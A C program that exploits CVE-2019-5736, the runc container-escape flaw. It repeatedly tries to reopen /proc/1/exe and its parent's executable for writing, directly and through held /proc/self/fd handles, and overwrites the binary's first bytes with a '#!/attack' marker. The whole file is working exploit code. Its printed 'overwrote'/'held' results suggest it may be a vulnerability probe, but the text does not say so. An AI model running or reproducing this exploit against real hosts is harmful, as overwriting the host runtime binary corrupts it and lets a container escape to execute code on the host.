// Tries to write to the program of process 1 and of its own parent, by every name there is for them (CVE-2019-5736).
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void attack(const char *path) {
    struct stat info;
    char name[64];
    if (stat(path, &info) == 0) printf("program %s is %lu:%lu\n", path, (unsigned long)info.st_dev, (unsigned long)info.st_ino);
    int reading = open(path, O_RDONLY | O_CLOEXEC);
    int way = open(path, O_PATH | O_CLOEXEC);
    for (int i = 0; i < 2000; i++) {
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        for (int held = 0; fd < 0 && held < 2; held++) {
            snprintf(name, sizeof name, "/proc/self/fd/%d", held ? way : reading);
            fd = open(name, O_WRONLY | O_CLOEXEC);
        }
        if (fd < 0) continue;
        if (pwrite(fd, "#!/attack", 9, 0) == 9) printf("overwrote %s\n", path);
        close(fd);
        return;
    }
    printf("held %s\n", path);
}

int main(int count, char **arguments) {
    attack("/proc/1/exe");
    for (int i = 1; i < count; i++) attack(arguments[i]);
    return 0;
}
